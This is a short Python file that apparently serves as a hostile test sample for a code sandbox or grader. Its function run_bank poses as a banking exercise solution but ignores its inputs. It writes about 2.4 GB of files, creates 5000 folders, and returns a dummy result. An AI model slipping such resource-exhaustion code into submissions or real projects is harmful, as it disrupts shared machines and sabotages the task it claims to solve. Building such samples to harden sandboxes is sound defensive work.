"""Fills its own folder with files, faster than anybody looks.

Group: exhaustion
"""

import os


def run_bank(opening, deposits, withdrawals):
    block = bytes(1 << 20)
    for number in range(12):
        with open(f"part-{number}", "wb") as file:
            for _ in range(200):
                file.write(block)
    for number in range(5000):
        os.mkdir(f"folder-{number}")
    return -1, []
